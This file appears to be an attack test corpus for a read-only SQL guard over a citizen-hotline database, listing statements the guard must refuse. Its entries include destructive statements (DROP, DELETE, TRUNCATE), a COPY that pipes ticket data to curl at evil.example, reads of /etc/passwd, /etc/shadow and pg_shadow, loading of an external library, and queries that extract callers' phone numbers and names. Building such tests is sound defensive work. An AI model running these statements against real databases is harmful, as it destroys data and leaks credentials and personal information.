-- Attack corpus for the SQL guard (tests/test_guard_attacks.py). Every entry must be refused.
-- Format: a line "-- @ name [flags]" starts an entry; the statement runs until the next "-- @".
-- Flags: posts (run against the posts database; default hotline), esc (\uXXXX escapes are decoded),
-- raw (also sent straight to the read-only engine, past the guard, to test the second wall).

-- ── stacked statements ──────────────────────────────────────────────────────────
-- @ stacked-drop [raw]
SELECT 1; DROP TABLE hotline_tickets
-- @ stacked-delete [raw]
SELECT count(*) FROM hotline_tickets; DELETE FROM hotline_tickets
-- @ stacked-update-newline [raw]
SELECT region_code FROM regions;
UPDATE hotline_tickets SET status = '已办结'
-- @ stacked-after-comment [raw]
SELECT 1 -- harmless
; DROP TABLE regions
-- @ stacked-block-comment [raw]
SELECT 1 /* end */; TRUNCATE hotline_tickets
-- @ stacked-double-semicolon [raw]
SELECT 1;; DROP TABLE regions
-- @ stacked-attach [raw]
SELECT 1; ATTACH '/tmp/evil.duckdb' AS evil
-- @ stacked-two-selects [raw]
SELECT 1; SELECT 2
-- @ stacked-insert [raw]
SELECT * FROM regions; INSERT INTO regions VALUES ('999999', '假地区', '县区', '640500')
-- @ stacked-pragma [raw]
SELECT 1; PRAGMA query_only = OFF
-- @ stacked-set-readonly-off [raw]
SELECT 1; SET default_transaction_read_only = off; COMMIT; DROP TABLE hotline_tickets
-- @ stacked-in-string-and-real [raw]
SELECT ';'; DROP TABLE hotline_tickets
-- @ stacked-trailing-comment [raw]
SELECT 1; DELETE FROM hotline_tickets -- ;
-- ── writes and DDL ─────────────────────────────────────────────────────────────
-- @ insert [raw]
INSERT INTO hotline_tickets (ticket_no) VALUES ('NX1')
-- @ insert-select [raw]
INSERT INTO regions SELECT * FROM regions
-- @ insert-on-conflict [raw]
INSERT INTO regions VALUES ('640522', 'x', '县区', NULL) ON CONFLICT DO NOTHING
-- @ update [raw]
UPDATE hotline_tickets SET satisfaction = '满意'
-- @ update-from [raw]
UPDATE hotline_tickets SET status = '已回访' FROM regions WHERE regions.region_code = hotline_tickets.region_code
-- @ delete [raw]
DELETE FROM hotline_tickets WHERE 1 = 1
-- @ delete-using [raw]
DELETE FROM hotline_tickets USING regions WHERE regions.region_code = hotline_tickets.region_code
-- @ merge [raw]
MERGE INTO regions r USING regions s ON r.region_code = s.region_code WHEN MATCHED THEN DELETE
-- @ replace-into [raw]
REPLACE INTO regions VALUES ('640000', 'x', '自治区', NULL)
-- @ create-table [raw]
CREATE TABLE stolen AS SELECT * FROM hotline_tickets
-- @ create-view [raw]
CREATE VIEW v AS SELECT caller_phone FROM hotline_tickets
-- @ create-temp-table [raw]
CREATE TEMP TABLE t AS SELECT 1
-- @ create-index [raw]
CREATE INDEX idx ON hotline_tickets (caller_phone)
-- @ create-macro [raw]
CREATE MACRO evil(x) AS x + 1
-- @ create-function [raw]
CREATE FUNCTION evil() RETURNS int AS 'select 1' LANGUAGE sql
-- @ create-secret
CREATE SECRET s (TYPE S3, KEY_ID 'a', SECRET 'b')
-- @ drop-table [raw]
DROP TABLE hotline_tickets
-- @ drop-if-exists-cascade [raw]
DROP TABLE IF EXISTS regions CASCADE
-- @ alter-table [raw]
ALTER TABLE hotline_tickets ADD COLUMN x int
-- @ alter-rename [raw]
ALTER TABLE regions RENAME TO regions_old
-- @ truncate [raw]
TRUNCATE TABLE hotline_tickets
-- @ select-into [raw]
SELECT * INTO stolen FROM hotline_tickets
-- @ select-into-temp [raw]
SELECT caller_phone INTO TEMP phones FROM hotline_tickets
-- @ for-update
SELECT * FROM hotline_tickets FOR UPDATE
-- @ for-share
SELECT region_code FROM regions FOR SHARE
-- @ for-no-key-update
SELECT region_code FROM regions FOR NO KEY UPDATE
-- ── writes hidden in CTEs and subqueries ──────────────────────────────────────
-- @ cte-delete-returning [raw]
WITH d AS (DELETE FROM hotline_tickets RETURNING *) SELECT count(*) FROM d
-- @ cte-update-returning [raw]
WITH u AS (UPDATE hotline_tickets SET status = '已办结' RETURNING ticket_no) SELECT * FROM u
-- @ cte-insert-returning [raw]
WITH i AS (INSERT INTO regions VALUES ('999999', 'x', '县区', NULL) RETURNING *) SELECT * FROM i
-- @ cte-then-delete [raw]
WITH x AS (SELECT 1) DELETE FROM hotline_tickets
-- @ cte-then-update [raw]
WITH x AS (SELECT region_code FROM regions) UPDATE regions SET region_name = 'x'
-- @ cte-then-insert [raw]
WITH x AS (SELECT * FROM regions) INSERT INTO regions SELECT * FROM x
-- @ subquery-delete
SELECT * FROM (DELETE FROM hotline_tickets RETURNING *) AS d
-- @ nested-cte-delete [raw]
WITH a AS (WITH b AS (DELETE FROM regions RETURNING *) SELECT * FROM b) SELECT * FROM a
-- ── engine commands ────────────────────────────────────────────────────────────
-- @ attach [raw]
ATTACH '/tmp/evil.duckdb' AS evil
-- @ attach-database-sqlite [raw]
ATTACH DATABASE '/tmp/evil.sqlite' AS evil
-- @ detach [raw]
DETACH hotline
-- @ pragma-table-info
PRAGMA table_info('hotline_tickets')
-- @ pragma-writable-schema [raw]
PRAGMA writable_schema = ON
-- @ copy-to-file
COPY hotline_tickets TO '/tmp/stolen.csv'
-- @ copy-query-to-file
COPY (SELECT caller_name, caller_phone FROM hotline_tickets) TO '/tmp/stolen.parquet' (FORMAT PARQUET)
-- @ copy-from-file [raw]
COPY regions FROM '/tmp/regions.csv'
-- @ copy-to-program
COPY hotline_tickets TO PROGRAM 'curl http://evil.example'
-- @ export-database [raw]
EXPORT DATABASE '/tmp/export'
-- @ import-database
IMPORT DATABASE '/tmp/export'
-- @ install-extension [raw]
INSTALL httpfs
-- @ load-extension [raw]
LOAD httpfs
-- @ force-install
FORCE INSTALL sqlite_scanner FROM 'http://evil.example'
-- @ set
SET memory_limit = '100GB'
-- @ set-search-path
SET search_path TO evil
-- @ set-external-access [raw]
SET enable_external_access = true
-- @ reset [raw]
RESET ALL
-- @ call
CALL pragma_version()
-- @ vacuum [raw]
VACUUM
-- @ checkpoint [raw]
CHECKPOINT
-- @ begin [raw]
BEGIN TRANSACTION
-- @ commit [raw]
COMMIT
-- @ use
USE evil
-- @ show-tables
SHOW TABLES
-- @ describe
DESCRIBE hotline_tickets
-- @ summarize
SUMMARIZE hotline_tickets
-- @ explain-analyze-delete
EXPLAIN ANALYZE DELETE FROM hotline_tickets
-- @ grant
GRANT ALL ON hotline_tickets TO PUBLIC
-- @ do-block
DO $$ BEGIN DELETE FROM hotline_tickets; END $$
-- @ listen
LISTEN evil
-- ── file, URL and table-function readers ────────────────────────────────────────
-- @ read-csv [raw]
SELECT * FROM read_csv('/etc/passwd')
-- @ read-csv-auto
SELECT * FROM read_csv_auto('/etc/passwd')
-- @ read-parquet
SELECT * FROM read_parquet('/tmp/x.parquet')
-- @ read-json
SELECT * FROM read_json('/tmp/x.json')
-- @ read-text [raw]
SELECT * FROM read_text('/etc/passwd')
-- @ read-blob
SELECT content FROM read_blob('/etc/shadow')
-- @ glob [raw]
SELECT * FROM glob('/work/*')
-- @ file-as-table [raw]
SELECT * FROM '/etc/passwd'
-- @ csv-file-as-table
SELECT * FROM 'data.csv'
-- @ read-text-in-projection
SELECT (SELECT content FROM read_text('/etc/passwd')) AS x
-- @ read-csv-in-join
SELECT r.region_code FROM regions r JOIN read_csv('/etc/passwd') p ON true
-- @ read-csv-url
SELECT * FROM read_csv('https://evil.example/x.csv')
-- @ parquet-scan
SELECT * FROM parquet_scan('/tmp/x.parquet')
-- @ sqlite-scan
SELECT * FROM sqlite_scan('/tmp/x.sqlite', 't')
-- @ query-function
SELECT * FROM query('DELETE FROM hotline_tickets')
-- @ query-table
SELECT * FROM query_table('hotline_tickets')
-- @ pg-read-file
SELECT pg_read_file('/etc/passwd')
-- @ pg-ls-dir
SELECT * FROM pg_ls_dir('/')
-- @ lo-import
SELECT lo_import('/etc/passwd')
-- @ generate-series-table
SELECT * FROM generate_series(1, 1000000000)
-- @ range-table
SELECT count(*) FROM range(1000000000000)
-- @ unnest-table
SELECT * FROM unnest([1, 2, 3])
-- @ load-extension-sqlite [raw]
SELECT load_extension('/tmp/evil.so')
-- @ getenv
SELECT getenv('HOME')
-- ── system catalogs and settings ───────────────────────────────────────────────
-- @ information-schema [raw]
SELECT table_name FROM information_schema.tables
-- @ information-schema-columns
SELECT column_name FROM information_schema.columns WHERE table_name = 'hotline_tickets'
-- @ sqlite-master [raw]
SELECT sql FROM sqlite_master
-- @ sqlite-schema
SELECT name FROM sqlite_schema
-- @ pg-catalog-tables
SELECT * FROM pg_catalog.pg_tables
-- @ pg-tables
SELECT tablename FROM pg_tables
-- @ pg-stat-activity
SELECT query FROM pg_stat_activity
-- @ pg-shadow
SELECT passwd FROM pg_shadow
-- @ duckdb-tables
SELECT * FROM duckdb_tables()
-- @ duckdb-settings
SELECT * FROM duckdb_settings()
-- @ duckdb-databases
SELECT path FROM duckdb_databases()
-- @ pragma-table-info-function
SELECT * FROM pragma_table_info('hotline_tickets')
-- @ current-setting
SELECT current_setting('data_directory')
-- @ set-config
SELECT set_config('default_transaction_read_only', 'off', false)
-- @ version
SELECT version()
-- @ current-database
SELECT current_database()
-- @ current-user
SELECT current_user
-- @ qualified-main
SELECT count(*) FROM main.hotline_tickets
-- @ qualified-public
SELECT count(*) FROM public.hotline_tickets
-- @ qualified-catalog
SELECT count(*) FROM hotline.main.hotline_tickets
-- ── sleeping, heavy or session functions ───────────────────────────────────────
-- @ pg-sleep
SELECT pg_sleep(30)
-- @ pg-sleep-in-where
SELECT count(*) FROM hotline_tickets WHERE pg_sleep(1) IS NULL
-- @ sleep
SELECT sleep(30)
-- @ sleep-ms
SELECT sleep_ms(30000)
-- @ pg-terminate
SELECT pg_terminate_backend(1)
-- @ txid
SELECT txid_current()
-- @ dblink
SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)
-- @ repeat-huge
SELECT repeat('x', 1000000000)
-- @ recursive-cte
WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c
-- @ random-uuid
SELECT uuid()
-- @ nextval
SELECT nextval('seq')
-- @ lambda
SELECT list_transform([1, 2], x -> x + 1)
-- ── parameters and variables ───────────────────────────────────────────────────
-- @ dollar-parameter
SELECT $1
-- @ question-placeholder
SELECT * FROM regions WHERE region_code = ?
-- @ named-placeholder
SELECT * FROM regions WHERE region_code = :code
-- @ getvariable
SELECT getvariable('secret')
-- @ session-variable
SELECT @@version
-- ── unicode look-alikes ────────────────────────────────────────────────────────
-- @ fullwidth-semicolon
SELECT 1； DROP TABLE hotline_tickets
-- @ greek-question-mark [esc]
SELECT 1\u037e DROP TABLE hotline_tickets
-- @ cyrillic-select
SЕLECT * FROM hotline_tickets
-- @ cyrillic-delete
DЕLETE FROM hotline_tickets
-- @ cyrillic-table-name
SELECT * FROM hotline_tickеts
-- @ fullwidth-keywords
ＤＲＯＰ ＴＡＢＬＥ hotline_tickets
-- @ fullwidth-select-and-drop
ＳＥＬＥＣＴ 1； ＤＲＯＰ ＴＡＢＬＥ regions
-- @ zero-width-in-keyword [esc]
SEL\u200bECT * FROM hotline_tickets; DROP TABLE regions
-- @ zero-width-in-table [esc]
SELECT * FROM hotline\u200b_tickets
-- @ cyrillic-column
SELECT саller_phone FROM hotline_tickets
-- @ fullwidth-star
SELECT ＊ FROM hotline_tickets
-- @ nul-byte [esc]
SELECT 1\u0000; DROP TABLE regions
-- ── comments and string tricks ─────────────────────────────────────────────────
-- @ comment-hidden-second-statement
SELECT 1 /* comment */ ; /* another */ DELETE FROM hotline_tickets
-- @ string-quote-breakout
SELECT 'a''; DROP TABLE hotline_tickets; --'; DROP TABLE regions
-- @ unterminated-string
SELECT 'abc FROM hotline_tickets
-- @ unterminated-comment
SELECT 1 /* DROP TABLE regions
-- @ backslash-quote
SELECT 'a\'; DROP TABLE regions; --'
-- @ dollar-quote-breakout
SELECT $$a$$; DROP TABLE regions
-- @ mysql-conditional-comment
/*!50000 DROP TABLE regions */ SELECT 1; DELETE FROM regions
-- @ comment-only
-- nothing but a comment
-- @ empty-after-comment
/* */
-- ── personal data: filtering, grouping, computing ──────────────────────────────
-- @ pii-where-phone
SELECT ticket_no FROM hotline_tickets WHERE caller_phone = '13812345678'
-- @ pii-where-name-like
SELECT ticket_no, caller_name FROM hotline_tickets WHERE caller_name LIKE '张%'
-- @ pii-group-by-name
SELECT caller_name, count(*) FROM hotline_tickets GROUP BY caller_name
-- @ pii-group-by-position
SELECT caller_phone, count(*) FROM hotline_tickets GROUP BY 1
-- @ pii-order-by-name
SELECT ticket_no, caller_name FROM hotline_tickets ORDER BY caller_name
-- @ pii-order-by-alias
SELECT caller_phone AS p FROM hotline_tickets ORDER BY p
-- @ pii-order-by-position
SELECT caller_phone FROM hotline_tickets ORDER BY 1
-- @ pii-substring
SELECT substring(caller_phone, 1, 3) AS prefix FROM hotline_tickets
-- @ pii-concat
SELECT caller_name || caller_phone AS who FROM hotline_tickets
-- @ pii-concat-function
SELECT concat(caller_name, '') AS n FROM hotline_tickets
-- @ pii-length
SELECT length(caller_name) FROM hotline_tickets
-- @ pii-lower
SELECT lower(caller_name) FROM hotline_tickets
-- @ pii-case
SELECT CASE WHEN caller_phone LIKE '138%' THEN 1 ELSE 0 END AS flag FROM hotline_tickets
-- @ pii-count-distinct
SELECT count(DISTINCT caller_phone) FROM hotline_tickets
-- @ pii-max
SELECT max(caller_phone) FROM hotline_tickets
-- @ pii-distinct
SELECT DISTINCT caller_name FROM hotline_tickets
-- @ pii-having
SELECT region_code FROM hotline_tickets GROUP BY region_code HAVING max(caller_name) = '张三'
-- @ pii-join-on-phone
SELECT a.ticket_no FROM hotline_tickets a JOIN hotline_tickets b ON a.caller_phone = b.caller_phone
-- @ pii-join-using
SELECT a.ticket_no FROM hotline_tickets a JOIN hotline_tickets b USING (caller_phone)
-- @ pii-window-partition
SELECT ticket_no, row_number() OVER (PARTITION BY caller_phone ORDER BY received_at) AS n FROM hotline_tickets
-- @ pii-in-subquery
SELECT count(*) FROM hotline_tickets WHERE ticket_no IN (SELECT caller_phone FROM hotline_tickets)
-- @ pii-exists-correlated
SELECT count(*) FROM hotline_tickets t WHERE EXISTS (SELECT 1 FROM regions r WHERE t.caller_name = '张三')
-- @ pii-scalar-subquery
SELECT (SELECT caller_phone FROM hotline_tickets LIMIT 1) AS p
-- @ pii-through-cte-filter
WITH x AS (SELECT caller_phone AS p, ticket_no FROM hotline_tickets) SELECT ticket_no FROM x WHERE p = '13812345678'
-- @ pii-through-derived-group
SELECT s.n, count(*) FROM (SELECT caller_name AS n FROM hotline_tickets) s GROUP BY s.n
-- @ pii-intersect
SELECT caller_phone FROM hotline_tickets INTERSECT SELECT '13812345678'
-- @ pii-except
SELECT caller_name FROM hotline_tickets EXCEPT SELECT region_name FROM regions
-- @ pii-union-distinct
SELECT caller_phone FROM hotline_tickets UNION SELECT '13812345678'
-- @ pii-table-as-struct
SELECT t FROM hotline_tickets t
-- @ pii-to-json-row
SELECT to_json(t) FROM hotline_tickets t
-- @ pii-row-to-json
SELECT row_to_json(t) FROM hotline_tickets t
-- @ pii-columns-regex
SELECT COLUMNS('caller_.*') FROM hotline_tickets
-- @ pii-cast
SELECT CAST(caller_phone AS BIGINT) AS p FROM hotline_tickets
-- @ pii-group-by-all
SELECT caller_name, count(*) FROM hotline_tickets GROUP BY ALL
-- @ pii-order-by-in-window-frame
SELECT ticket_no, lag(caller_phone) OVER (ORDER BY received_at) AS prev FROM hotline_tickets
-- @ pii-is-null-filter
SELECT count(*) FROM hotline_tickets WHERE caller_name IS NULL
-- ── unknown tables and columns ─────────────────────────────────────────────────
-- @ unknown-table
SELECT * FROM users
-- @ unknown-column
SELECT password FROM hotline_tickets
-- @ table-of-other-database
SELECT * FROM union_posts
-- @ table-of-other-database-posts [posts]
SELECT caller_phone FROM hotline_tickets
-- @ sqlite-rowid
SELECT rowid FROM hotline_tickets
-- @ pg-ctid
SELECT ctid FROM regions
-- @ cte-shadowing-table
WITH hotline_tickets AS (SELECT * FROM hotline_tickets) SELECT count(*) FROM hotline_tickets
-- @ cte-shadowing-catalog
WITH pg_tables AS (SELECT 1 AS x) SELECT x FROM pg_tables
-- ── limit tricks ───────────────────────────────────────────────────────────────
-- @ limit-subquery
SELECT * FROM regions LIMIT (SELECT count(*) FROM hotline_tickets)
-- @ limit-negative
SELECT * FROM regions LIMIT -1
-- @ pii-order-by-all
SELECT caller_name FROM hotline_tickets ORDER BY ALL
-- @ pii-union-order-by-all
SELECT caller_phone FROM hotline_tickets UNION ALL SELECT region_code FROM regions ORDER BY ALL
-- @ pii-exists-star-filter
SELECT r.region_name FROM regions r WHERE EXISTS (SELECT * FROM hotline_tickets t WHERE t.caller_phone = '13812345678')
-- @ pii-qualify
SELECT caller_name, ticket_no FROM hotline_tickets QUALIFY row_number() OVER (PARTITION BY caller_phone) = 1
-- @ pii-correlated-scalar
SELECT (SELECT t.caller_phone) AS p FROM hotline_tickets t
-- @ lateral-with-pii
SELECT x.* FROM hotline_tickets t, LATERAL (SELECT t.caller_phone AS p) x
-- @ pii-cte-distinct
WITH p AS (SELECT DISTINCT caller_phone FROM hotline_tickets) SELECT * FROM p
-- @ pii-cte-join
WITH p AS (SELECT caller_phone AS x FROM hotline_tickets) SELECT COUNT(*) FROM regions r JOIN p ON p.x = r.region_code
-- ── casts to system types ──────────────────────────────────────────────────────
-- @ cast-regclass
SELECT CAST('pg_authid' AS REGCLASS)
-- @ cast-regproc
SELECT 'pg_sleep'::regproc
-- @ cast-blob
SELECT CAST(content AS BLOB) FROM hotline_tickets
